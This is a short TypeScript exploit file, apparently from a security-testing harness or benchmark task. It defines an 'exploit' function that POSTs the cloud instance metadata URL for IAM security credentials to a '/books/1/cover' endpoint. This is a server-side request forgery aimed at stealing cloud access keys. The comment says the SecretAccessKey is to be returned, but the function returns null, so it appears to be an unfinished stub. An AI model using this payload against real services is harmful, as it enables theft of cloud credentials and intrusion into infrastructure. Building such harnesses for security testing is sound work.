import type { Target } from 'underpin';

const credentials = 'http://169.254.169.254/latest/meta-data/iam/security-credentials/';

export async function exploit({ request }: Target) {
  const { status, json } = await request('POST', '/books/1/cover', { json: { url: credentials } });
  console.log(status, json);
  // Return the SecretAccessKey.
  return null;
}
